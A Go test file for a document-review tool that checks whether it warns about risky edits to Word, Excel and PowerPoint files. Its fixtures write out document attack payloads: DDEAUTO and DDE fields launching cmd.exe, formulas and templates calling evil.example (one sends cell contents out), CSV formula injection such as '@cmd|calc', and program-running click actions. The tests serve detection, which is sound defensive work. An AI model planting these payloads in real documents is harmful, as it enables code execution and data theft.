package review_test

import (
	"archive/zip"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"atelier/formats"
	"atelier/formats/formatstest"
	"atelier/workshop"
	"atelier/workshop/review"
)

// put writes the draft's version of a document, with some parts replaced,
// added or, if "", deleted.
func put(t *testing.T, wb *workshop.Workbench, name string, change func(parts map[string]string)) {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(wb.Root(), name))
	require.NoError(t, err)
	parts := map[string]string{}
	for k, v := range formatstest.Parts(t, b) {
		parts[k] = string(v)
	}
	change(parts)
	putNew(t, wb, name, parts)
}

// putNew writes a package of parts to the draft.
func putNew(t *testing.T, wb *workshop.Workbench, name string, parts map[string]string) {
	t.Helper()
	_, err := wb.DraftView(workshop.Cause{}).Put(ctx, workshop.Path(name), workshop.PutOptions{}, func(w io.Writer) error {
		zw := zip.NewWriter(w)
		for k, v := range parts {
			if v == "" {
				continue
			}
			p, err := zw.Create(k)
			if err != nil {
				return err
			}
			if _, err := io.WriteString(p, v); err != nil {
				return err
			}
		}
		return zw.Close()
	})
	require.NoError(t, err)
}

const relType = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

// rel adds a relationship to a .rels part.
func rel(parts map[string]string, name, kind, target, more string) {
	if parts[name] == "" {
		parts[name] = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>`
	}
	parts[name] = strings.Replace(parts[name], "</Relationships>", `<Relationship Id="rX`+kind+`" Type="`+relType+kind+`" Target="`+target+`"`+more+`/></Relationships>`, 1)
}

const external = ` TargetMode="External"`

// riskyChanges are changes that make a document do something, with the
// expected warnings.
var riskyChanges = []struct {
	name, file string
	change     func(p map[string]string)
	want       []string
}{
	{"template", "contrato.docx", func(p map[string]string) {
		rel(p, "word/_rels/settings.xml.rels", "attachedTemplate", "http://evil.example/t.dotm", external)
	}, []string{"new external attachedTemplate: http://evil.example/t.dotm"}},
	{"dde over runs", "contrato.docx", func(p map[string]string) {
		p["word/document.xml"] = strings.Replace(p["word/document.xml"], "</w:body>", `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO c:\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body>`, 1)
	}, []string{`p53: new field that reaches out: DDEAUTO c:\\cmd.exe "/k calc"`}},
	{"hyperlink field", "contrato.docx", func(p map[string]string) {
		p["word/document.xml"] = strings.Replace(p["word/document.xml"], "</w:body>", `<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://evil.example&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:body>`, 1)
	}, []string{`p53: new field that reaches out: HYPERLINK "https://evil.example"`}},
	{"hidden text", "contrato.docx", func(p map[string]string) {
		p["word/document.xml"] = strings.Replace(p["word/document.xml"], "</w:body>", `<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>secret</w:t></w:r></w:p></w:body>`, 1)
	}, []string{"p53: text that cannot be seen, formatted as hidden: “secret”"}},
	{"macros and objects", "contrato.docx", func(p map[string]string) {
		p["word/vbaProject.bin"], p["word/embeddings/oleObject1.bin"], p["word/afchunk.htm"] = "macro", "ole", "<p>x"
		rel(p, "word/_rels/document.xml.rels", "vbaProject", "vbaProject.bin", "")
		rel(p, "word/_rels/document.xml.rels", "oleObject", "embeddings/oleObject1.bin", "")
		rel(p, "word/_rels/document.xml.rels", "aFChunk", "afchunk.htm", "")
	}, []string{"new embedded document: word/afchunk.htm", "new embedded object: word/embeddings/oleObject1.bin", "new macros"}},
	{"lost picture", "contrato.docx", func(p map[string]string) {
		p["word/media/image1.png"] = ""
	}, []string{"p0: the file of a picture is missing: word/media/image1.png", "header 1 (h0.p0): the file of a picture is missing: word/media/image1.png"}},
	{"dde link", "sales.xlsx", func(p map[string]string) {
		p["xl/externalLinks/externalLink1.xml"] = `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`
		rel(p, "xl/_rels/workbook.xml.rels", "externalLink", "externalLinks/externalLink1.xml", "")
	}, []string{"new DDE link, which can start programs: cmd|/c calc"}},
	{"linked workbook", "sales.xlsx", func(p map[string]string) {
		p["xl/externalLinks/externalLink1.xml"] = `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>`
		rel(p, "xl/_rels/workbook.xml.rels", "externalLink", "externalLinks/externalLink1.xml", "")
		rel(p, "xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", "file:///c:/x.xlsx", external)
	}, []string{"new external externalLinkPath: file:///c:/x.xlsx"}},
	{"connections", "sales.xlsx", func(p map[string]string) {
		p["xl/connections.xml"] = "<connections/>"
		rel(p, "xl/_rels/workbook.xml.rels", "connections", "connections.xml", "")
	}, []string{"new data connections: xl/connections.xml"}},
	{"linked workbook of a server", "sales.xlsx", func(p map[string]string) {
		p["xl/externalLinks/externalLink1.xml"] = `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>`
		rel(p, "xl/_rels/workbook.xml.rels", "externalLink", "externalLinks/externalLink1.xml", "")
		rel(p, "xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", `\\evil.example\share\x.xlsx`, external)
	}, []string{`new external externalLinkPath: \\evil.example\share\x.xlsx`}},
	{"formulas that reach out", "sales.xlsx", func(p map[string]string) {
		p["xl/worksheets/sheet1.xml"] = strings.Replace(p["xl/worksheets/sheet1.xml"], "</sheetData>", `<row r="900"><c r="A900"><f>_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)</f></c><c r="B900"><f>_xlfn.IMAGE("http://evil.example/p.png")</f></c><c r="C900"><f>RTD("evil.server",,"x")</f></c></row></sheetData>`, 1)
	}, []string{
		`the formula in Sales!A900 reaches out: =WEBSERVICE("http://evil.example/"&A1)`, `the formula in Sales!B900 reaches out: =IMAGE("http://evil.example/p.png")`,
		`the formula in Sales!C900 reaches out: =RTD("evil.server",,"x")`,
	}},
	{"hidden sheet", "sales.xlsx", func(p map[string]string) {
		p["xl/workbook.xml"] = strings.Replace(p["xl/workbook.xml"], `<sheet name="Resumen"`, `<sheet state="veryHidden" name="Resumen"`, 1)
	}, []string{`the sheet "Resumen" is hidden now`}},
	{"lost chart", "sales.xlsx", func(p map[string]string) {
		p["xl/charts/chart1.xml"] = ""
	}, []string{"Resumen!F2:N18: lost: the chart is missing from the file"}},
	{"click", "presentacion.pptx", func(p map[string]string) {
		p["ppt/slides/slide1.xml"] = strings.Replace(p["ppt/slides/slide1.xml"], "<p:cNvPr id=\"2\"", "<p:cNvPr descr='x' id=\"2\"", 1)
		p["ppt/slides/slide1.xml"] = strings.Replace(p["ppt/slides/slide1.xml"], "</p:sld>", `<!-- --></p:sld>`, 1)
		p["ppt/slides/slide1.xml"] = strings.Replace(p["ppt/slides/slide1.xml"], "<a:rPr", `<a:rPr><a:hlinkClick xmlns:r="x" r:id="" action="ppaction://program"/></a:rPr><a:rPr`, 1)
	}, []string{"slide 1, “Título”: a click runs a program"}},
	{"link in a layout", "presentacion.pptx", func(p map[string]string) {
		rel(p, "ppt/slideMasters/_rels/slideMaster1.xml.rels", "image", "http://evil.example/pixel.png", external)
	}, []string{"new external image: http://evil.example/pixel.png"}},
}

// RV-01: there is a warning for what a change makes a document do, wherever
// in the file it is.
func TestRV01Warnings(t *testing.T) {
	for _, c := range riskyChanges {
		t.Run(c.name, func(t *testing.T) {
			wb, set, _ := bench(t)
			put(t, wb, c.file, c.change)
			changes, err := review.ChangeSet(ctx, wb, set)
			require.NoError(t, err)
			require.Len(t, changes, 1)
			require.Equal(t, c.want, changes[0].Warnings, changes[0].Summary)
			// The reverse change is no new risk.
			_, err = wb.Publish(ctx, workshop.PublishOptions{})
			require.NoError(t, err)
			put(t, wb, c.file, func(p map[string]string) { p["docProps/core.xml"] += " " })
			d, err := review.Content(ctx, wb, set, workshop.Path(c.file), review.ContentOptions{})
			require.NoError(t, err)
			require.Empty(t, d.Warnings)
		})
	}
}

// RV-01: a new file gets the same warnings, also in JSON and on the page.
func TestRV01WarningsOfAddedFiles(t *testing.T) {
	for _, c := range riskyChanges {
		t.Run(c.name, func(t *testing.T) {
			wb, set, _ := bench(t)
			name := "new-" + c.file
			b, err := os.ReadFile(filepath.Join(wb.Root(), c.file))
			require.NoError(t, err)
			parts := map[string]string{}
			for k, v := range formatstest.Parts(t, b) {
				parts[k] = string(v)
			}
			c.change(parts)
			putNew(t, wb, name, parts)
			changes, err := review.ChangeSet(ctx, wb, set)
			require.NoError(t, err)
			require.Len(t, changes, 1)
			require.Equal(t, "added", changes[0].ChangeType)
			d, err := review.Content(ctx, wb, set, workshop.Path(name), review.ContentOptions{})
			require.NoError(t, err)
			require.Equal(t, changes[0].Warnings, d.Warnings)
			t.Log(d.Warnings)
			for _, want := range c.want {
				require.Contains(t, d.Warnings, want)
			}
		})
	}
}

// RV-01: there is a warning for text that a spreadsheet would interpret as a
// formula, in workbooks and in csv.
func TestRV01FormulaText(t *testing.T) {
	wb, set, call := bench(t)
	call("xlsx_operations", `{"path":"sales.xlsx","operations":[{"op":"set_cells","sheet":"Sales","cells":[{"cell":"J6","value":"@SUM(A1)"},{"cell":"J7","value":"-12 %"},{"cell":"J8","value":"+34 600 000 000"},{"cell":"J9","value":"- una nota"}]}]}`)
	call("write_text_file", `{"path":"new.csv","content":"name,value\nx,\"=HYPERLINK(\"\"http://evil.example\"\")\"\ny,-5\nz,\"-1,5\"\n@cmd|calc,1\n+34 600,2\n"}`)
	changes, err := review.ChangeSet(ctx, wb, set)
	require.NoError(t, err)
	require.Len(t, changes, 2)
	require.Equal(t, []string{
		`line 2 has text that a spreadsheet takes for a formula: =HYPERLINK("http://evil.example")`,
		"line 5 has text that a spreadsheet takes for a formula: @cmd|calc",
	}, changes[0].Warnings)
	require.Equal(t, []string{"the text in Sales!J6 reads like a formula: @SUM(A1)"}, changes[1].Warnings)
}

// RV-01: the review of a new file lists what its text does not show, which goes back only
// with the file.
func TestRV01FactsOfNewFiles(t *testing.T) {
	wb, set, call := bench(t)
	call("xlsx_operations", `{"path":"new.xlsx","create_new":true,"operations":[
		{"op":"set_range","sheet":"Data","start":"A1","values":[["Month","Sales"],["Jan",3],["Feb",4]]},
		{"op":"add_chart","sheet":"Data","cell":"D2","type":"bar","range":"A1:B3"},
		{"op":"add_comment","sheet":"Data","cell":"A1","text":"Which year?"},
		{"op":"hide_rows","sheet":"Data","range":"3:3"},
		{"op":"set_style","sheet":"Data","range":"A1:B1","style":{"font_bold":true}},
		{"op":"protect_sheet","sheet":"Data"}]}`)
	d, err := review.Content(ctx, wb, set, "new.xlsx", review.ContentOptions{})
	require.NoError(t, err)
	require.Equal(t, "a new file", d.Message)
	var kinds []string
	for _, f := range d.Facts {
		kinds = append(kinds, f.Kind)
		require.Equal(t, formats.Added, f.Change)
		require.False(t, f.Revertible)
		require.NotEmpty(t, f.Reason)
	}
	require.ElementsMatch(t, []string{formats.FactChart, formats.FactComment, formats.FactHiddenRows, formats.FactProtection}, kinds, "and not the looks")
}
